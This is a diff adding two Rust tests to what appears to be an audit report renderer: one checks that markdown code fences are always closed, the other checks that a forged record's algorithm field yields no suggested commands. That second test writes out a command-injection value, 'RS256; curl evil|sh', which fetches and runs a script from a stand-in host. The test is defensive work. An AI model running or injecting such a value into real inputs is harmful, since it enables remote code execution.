@@ -107,6 +107,35 @@ fn hostile_words_stay_words() {
 }
 
 #[test]
+fn every_fence_is_closed() {
+    let commands = ["orb geo van.jpg", "cd 'out'\nsha256sum -c\n", "", "a ``` b\n```", "````"];
+    let blocks = commands.map(|text| Block::Commands(text.into())).into();
+    let sections = vec![Section { title: "t", blocks }];
+    let markdown = markdown::render(&Document { banner: "CUI".into(), title: "x".into(), sections });
+    let fences: Vec<&str> = markdown.lines().filter(|line| line.starts_with("```")).collect();
+    assert_eq!(fences, ["```"; 10], "{markdown}");
+    assert!(!markdown.lines().any(|line| line.contains("```") && line != "```"), "{markdown}");
+    // The command line of a record, which ends without a line feed.
+    let (_, markdown) = changed(|_| {});
+    let fences = markdown.lines().filter(|line| line.contains("```"));
+    assert!(fences.clone().all(|line| line == "```") && fences.count() == 4, "{markdown}");
+}
+
+/// The report of a record whose algorithm is no command's is written, and has none.
+#[test]
+fn no_commands_of_forged_words() {
+    use crate::audit::verify::tests::forge;
+    with_report(
+        true,
+        |folder| forge(folder, shared_key(), |v| v["predicate"]["actor"]["algorithm"] = "RS256; curl evil|sh".into()),
+        |evidence| {
+            let html = to_html(evidence).unwrap();
+            assert!(html.contains("No commands are given: ALG_REFUSED") && !html.contains("openssl dgst"), "{html}");
+        },
+    );
+}
+
+#[test]
 fn a_finding_stands_first() {
     with_report(
         true,
